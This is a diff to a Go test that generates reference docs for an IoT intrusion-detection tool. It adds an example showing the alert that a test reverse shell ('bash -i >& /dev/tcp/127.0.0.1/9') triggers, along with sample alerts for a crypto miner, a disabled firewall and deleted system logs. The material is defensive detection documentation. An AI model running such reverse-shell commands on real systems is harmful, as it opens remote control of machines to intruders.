@@ -21,6 +21,7 @@ func alertReference(t *testing.T) string {
 	b.WriteString("# Alert and recommendation reference\n\n")
 	b.WriteString("<!-- Generated from the detect package's rules by `go test ./detect -run TestAlertReference -update-docs`. Do not edit. -->\n\n")
 	b.WriteString(alertIntro)
+	b.WriteString(exampleDoc)
 	row := func(r Rule) {
 		fmt.Fprintf(&b, "| `%s` | %s | %s | %s | %s | %s | %s |\n", r.ID, esc(r.Name), r.Severity, r.Origin, esc(r.Trigger), strings.Join(r.Inputs, ", "), esc(r.Remediation))
 	}
@@ -67,6 +68,59 @@ id, the same style); ` + "`ES_`" + ` ids are edgesec's (from Falco rules); ` + "
 Known limits: edgesec collects no file, DNS or syscall events, so rules on file writes (history cleared by a shell
 built-in, log truncation with ` + "`>`" + `) are command-line proxies; a binary that exits within microseconds on a loaded
 machine can be gone before the process collector reads its command line (poll mode misses short processes entirely).
+
+`
+
+const exampleDoc = `## Example
+
+A reverse shell started on a test machine (` + "`timeout 2 bash -c 'bash -i >& /dev/tcp/127.0.0.1/9 0>&1'`" + `, from the
+scenario corpus, ` + "`go test -run TestScenarios ./detect/`" + `) reached the engine 2 ms after the exec as this event:
+
+` + "```json" + `
+{
+  "Id": "1661811b-a1ab-4e0a-ab8c-05ac13d146a4",
+  "TimestampLocal": "2026-12-06T13:37:18.184Z",
+  "TimestampUTC": "2026-12-06T13:37:18.184Z",
+  "Category": "Triggered",
+  "Name": "SecurityAlert",
+  "EventType": "Security",
+  "IsEmpty": false,
+  "PayloadSchemaVersion": "1.0",
+  "Payload": [{
+    "AlertType": "IoT_ReverseShell",
+    "DisplayName": "Reverse shells",
+    "Severity": "High",
+    "Description": "/usr/bin/timeout: redirects a shell to /dev/tcp/127.0.0.1/9",
+    "Remediation": "Kill the process and its parent, find how it was started (a web shell, a compromised service, a stolen login) and rotate the device's credentials.",
+    "TriggerEventIds": ["d3923938-53e6-4c9b-9817-e3e6722392e4"],
+    "TriggerEventNames": ["ProcessCreate"],
+    "Executable": "/usr/bin/timeout",
+    "CommandLine": "timeout 2 bash -c bash -i >& /dev/tcp/127.0.0.1/9 0>&1",
+    "UserId": "0",
+    "UserName": "root",
+    "ProcessId": 16993,
+    "ParentProcessId": 16958,
+    "ParentExecutable": "/usr/bin/bash",
+    "RemoteAddress": "127.0.0.1",
+    "RemotePort": "9",
+    "Count": 1
+  }]
+}
+` + "```" + `
+
+` + "`edgesec alerts FILE|-`" + ` (messages as the file transport or an MQTT subscriber writes them; ` + "`--json`" + ` for JSON lines)
+shows a stream of them as a table; the reference module prints one line per alert with ` + "`detect.FormatLine`" + `:
+
+` + "```" + `
+TIME (UTC)           KIND   SEVERITY  STATE  ID                            ENTITY                    DETAILS
+2026-12-06 13:38:10  alert  High      -      IoT_CryptoMiner               pid 20151 root            /tmp/t/cpuminer-multi names the crypto miner or mining proto…
+2026-12-06 13:38:10  alert  High      -      IoT_ReverseShell              pid 20156 root 127.0.0.1  /usr/bin/timeout: redirects a shell to /dev/tcp/127.0.0.1/9
+2026-12-06 13:38:10  alert  High      -      IoT_DisableFirewall           pid 20163 root            /usr/sbin/xtables-nft-multi: sets the INPUT policy to ACCEPT
+2026-12-06 13:38:11  alert  Medium    -      IoT_RemovalOfSystemLogs       pid 20181 root            /usr/bin/rm removes or truncates the system log /var/log/ed…
+2026-12-06 13:40:02  recommendation  Medium  Active  IoT_OpenPorts  TCP 0.0.0.0:8888  /usr/bin/nc.openbsd (pid 812, user root) listens on TCP 0.0.0.0:8888
+
+2026-12-06T13:38:10.412Z ALERT High IoT_ReverseShell "Reverse shells": /usr/bin/timeout: redirects a shell to /dev/tcp/127.0.0.1/9 [pid 20156 user root remote 127.0.0.1]
+` + "```" + `
 
 `
 
